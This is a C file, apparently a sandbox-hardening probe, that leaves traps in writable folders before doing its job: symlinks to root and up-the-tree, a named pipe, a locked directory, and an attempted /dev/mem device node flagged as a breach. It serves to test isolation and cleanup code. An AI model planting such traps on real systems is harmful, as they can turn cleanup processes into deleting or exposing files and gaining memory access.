/* Leaves symbolic links, pipes and locked folders where it may write, for whoever cleans up; then does the job. */

#include "attack.h"
#include <sys/file.h>

static void leave_in(const char *folder)
{
    char name[600];
    if (symlink(COURSE, marked(folder, "course")) < 0 || symlink("../../../../../..", marked(folder, "up")) < 0)
        return;
    if (symlink("/", marked(folder, "root")) < 0 || mkfifo(marked(folder, "pipe"), 0666) < 0)
        return;
    snprintf(name, sizeof name, "%s", marked(folder, "locked"));
    if (mkdir(name, 0700) < 0)
        return;
    strcat(name, "/inside");
    close(open(name, O_CREAT | O_WRONLY, 0));
    *strrchr(name, '/') = 0;
    chmod(name, 0);
    if (mknod(marked(folder, "memory"), S_IFCHR | 0666, 1 << 8 | 1) == 0)
        breach("a device in %s", folder);
}

int main(int argc, char **argv)
{
    const char *folders[] = { ".", "/tmp", "/dev/shm", "/var/tmp" };
    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++)
        leave_in(folders[i]);
    flock(0, LOCK_EX | LOCK_NB);
    return do_the_job(argc, argv);
}
